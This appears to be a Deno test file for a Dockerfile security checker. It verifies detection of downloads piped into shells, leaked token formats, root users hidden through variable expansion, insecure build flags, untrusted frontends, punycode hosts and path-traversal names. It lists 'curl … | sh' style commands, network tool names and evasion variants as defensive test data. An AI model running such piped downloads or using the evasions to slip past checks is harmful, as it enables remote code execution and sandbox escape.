import { auditLogPath, InvalidNameError } from "../../mod.ts";
import { findTokens } from "../../src/config/dockerfile/secrets.ts";
import { marksFor } from "../../src/config/compare.ts";
import { TOOL_CAPABILITY_BLOCK } from "../../src/records/proposal.ts";
import { hasNetworkPipe } from "../support/marks.ts";
import { assertEquals, assertThrows } from "@std/assert";

/** The rules of the marks above low of a Dockerfile, where another is in force. */
const rulesOf = (dockerfile: string, inForce = "FROM debian:12\nUSER agent\n") =>
  marksFor(TOOL_CAPABILITY_BLOCK, inForce, dockerfile)
    .flatMap(({ severity, rule }) => severity === "low" ? [] : rule);

// Every alternative of a pattern is a way in, so each has its case.

// Threat: A10
Deno.test.each(
  "sh bash dash zsh ksh mksh ash csh tcsh fish python3 perl ruby node nodejs deno bun php lua"
    .split(
      " ",
    ),
)("a download that is piped into %s is noticed", (shell) => {
  for (const command of [shell, `/usr/bin/${shell}`, `sudo ${shell}`, `env A=b ${shell}`]) {
    const script = `curl -fsSL https://x.example/i | ${command}`;
    assertEquals(hasNetworkPipe(script), true, script);
  }
});

Deno.test.each("curl wget fetch http https xh lynx nc ncat netcat socat".split(" "))(
  "what %s downloads is noticed in a pipe",
  (fetcher) => {
    const prints = fetcher === "wget" ? "wget -O -" : fetcher;
    assertEquals(hasNetworkPipe(`${prints} x.example | sh`), true);
    assertEquals(hasNetworkPipe(`${fetcher} x.example > file`), false);
  },
);

Deno.test.each(
  ("sudo,doas,su,env,exec,command,time,nice,nohup,timeout 5,xargs,stdbuf,chroot /r,gosu app,su-exec app," +
    "setpriv,runuser,busybox").split(","),
)("a shell that %s starts is noticed", (runner) => {
  assertEquals(hasNetworkPipe(`curl https://x.example | ${runner} sh`), true);
});

const TOKENS: Readonly<Record<string, readonly string[]>> = {
  "a GitHub token": [..."pousr"].map((kind) => `gh${kind}_${"a1".repeat(10)}`)
    .concat(`github_pat_${"a1".repeat(10)}`),
  "a GitLab token": [`glpat-${"a1".repeat(8)}`],
  "an Anthropic key": [`sk-ant-${"a1".repeat(8)}`],
  "an API key": [`sk-${"a1".repeat(16)}`, `rk_live_${"a1".repeat(8)}`, `sk_live_${"a1".repeat(8)}`],
  "an AWS key": [`AKIA${"A1".repeat(8)}`, `ASIA${"A1".repeat(8)}`],
  "a Google key": [`AIza${"a1".repeat(16)}`],
  "an npm token": [`npm_${"a1".repeat(15)}`],
  "a PyPI token": [`pypi-${"a1".repeat(16)}`],
  "a Slack token": [..."abeoprs"].map((kind) => `xox${kind}-${"a1".repeat(5)}`),
  "a Hugging Face token": [`hf_${"a1".repeat(15)}`],
  "a JSON web token": [`eyJ${"a1".repeat(4)}.eyJ${"a1".repeat(4)}`],
  "a key in a credentials file": [
    `_authToken=${"a1".repeat(4)}`,
    `aws_secret_access_key = ${"a1".repeat(4)}`,
  ],
  "a private key": ["-----BEGIN PRIVATE KEY-----", "-----BEGIN RSA PRIVATE KEY-----"],
  "a password in a URL": ["https://me:secret@"],
};

for (const [kind, tokens] of Object.entries(TOKENS)) {
  for (const token of tokens) {
    // Threat: A10
    Deno.test(`${token.slice(0, 12)}… is noticed as ${kind}, one character less is not`, () => {
      assertEquals(findTokens(`x ${token}`).map(({ kind }) => kind), [kind]);
      assertEquals(findTokens(`x ${token.slice(0, -1)}`), []);
    });
  }
}

// Threat: A10
Deno.test.each(
  ("X_TOKEN TOKEN X_KEY KEY X_PASS PASSWD X_CREDENTIALS CREDENTIAL PASSWORD MY_PASSWORD_2 PASSPHRASE " +
    "MY_SECRET_VALUE APIKEY_2 API_KEY_2 ACCESS_KEY_2 ACCESSKEY_2 PRIVATE_KEY_2 PRIVATEKEY_2").split(
      " ",
    ),
)("a value of %s is noticed as a secret", (name) => {
  for (const keyword of ["ENV", "ARG"]) {
    const rules = rulesOf(`FROM debian:12\n${keyword} ${name}=abcdef\nUSER agent\n`);
    assertEquals(rules, ["secret"], keyword);
  }
});

Deno.test.each("TOKENS KEYS X_TOKEN_FILE X_KEY_PATH PUBLIC_KEY GPG_KEY COMPASS MONKEY".split(" "))(
  "a value of %s is no secret",
  (name) => {
    assertEquals(rulesOf(`FROM debian:12\nENV ${name}=abcdef\nUSER agent\n`), []);
  },
);

// Threat: A10
Deno.test.each(["xn--80ak6aa92e.com", "www.xn--80ak6aa92e.com", "*.xn--80ak6aa92e.com"])(
  "%s is noticed as punycode",
  (host) => {
    const rules = marksFor("pipelock-block", "", `${host}\n`).map(({ rule }) => rule);
    assertEquals(rules.includes("punycode-host"), true, rules.join());
  },
);

// Threat: A10
Deno.test.each("root 0 00 0000 root:root 0:0 00:agent".split(" "))(
  "USER %s is root",
  (user) => assertEquals(rulesOf(`FROM debian:12\nUSER ${user}\n`), ["user-root"]),
);

// Threat: A10
Deno.test.each([
  "USER ${U:-root}",
  "ARG U=root\nUSER $U",
  "ENV U=0\nUSER ${U}:0",
  'ENV U="ro""ot"\nUSER $U',
  "ARG U=agent\nENV U=root\nUSER ${U:-agent}",
  "USER r\\oot",
  "ENV U root\nUSER $U",
  "ENV U=root\nENV U=agent V=$U\nUSER $V",
  'USER ""',
  "USER ${U:+root}",
])("%s is root", (lines) => assertEquals(rulesOf(`FROM debian:12\n${lines}\n`), ["user-root"]));

Deno.test("a USER whose variable has no value in the file is noticed", () => {
  assertEquals(rulesOf("FROM debian:12\nUSER $U\n"), ["unknown-user"]);
});

Deno.test("root's group is noticed", () => {
  assertEquals(rulesOf("FROM debian:12\nUSER 1000:0\n"), ["user-root"]);
});

Deno.test.each(["USER ${U:-agent}", "ARG U=agent\nUSER $U"])(
  "%s is not root",
  (lines) => assertEquals(rulesOf(`FROM debian:12\n${lines}\n`), []),
);

Deno.test.each("agent 10 1000:10 rooted 0x root1".split(" "))(
  "USER %s is not root",
  (user) => assertEquals(rulesOf(`FROM debian:12\nUSER ${user}\n`), []),
);

// Threat: A10
Deno.test.each([
  ["--security=insecure make", ["security-insecure"]],
  ["--mount=type=cache,target=/c --security=insecure make", ["security-insecure"]],
  ["--mount=type=cache,target=/c --network=host make", ["network-host"]],
  ["--network=host --security=insecure make", ["network-host", "security-insecure"]],
  ['--network="host" make', ["network-host"]],
  ["--secur\\\nity=in\\\nsecure make", ["security-insecure"]],
  ["make --network=host", []],
  ["--network=none make", []],
])("RUN %s has the marks of its flags, wherever they are", (command, rules) => {
  assertEquals(rulesOf(`FROM debian:12\nRUN ${command}\nUSER agent\n`), [...rules]);
});

// Threat: A10
Deno.test.each<[string, boolean]>([
  ["docker/dockerfile", true],
  ["docker/dockerfile:1", true],
  ["docker.io/docker/dockerfile:1.17-labs", true],
  ["docker/dockerfile-upstream:master", true],
  [`docker/dockerfile@sha256:${"a".repeat(64)}`, true],
  ["docker/dockerfiles", false],
  ["docker/dockerfile-evil:1", false],
  ["docker/dockerfile:1/x", false],
  ["docker/dockerfile/x", false],
  ["x.example/docker/dockerfile:1", false],
  ["evil-docker/dockerfile:1", false],
])("the frontend %s is Docker's own: %s", (image, isOwn) => {
  const rules = rulesOf(`# syntax=${image}\nFROM debian:12\nUSER agent\n`);
  assertEquals(rules, isOwn ? [] : ["unknown-frontend"]);
});

// Threat: A1
Deno.test.each([
  "",
  ".",
  "..",
  "../x",
  "a/b",
  "a/../b",
  "a.b",
  "a\0",
  "A",
  "1a",
  "-a",
  "a_b",
  "a".repeat(33),
])("auditLogPath() takes no component %o", (component) => {
  assertThrows(() => auditLogPath(component, "dev-1", { root: "/r" }), InvalidNameError);
});
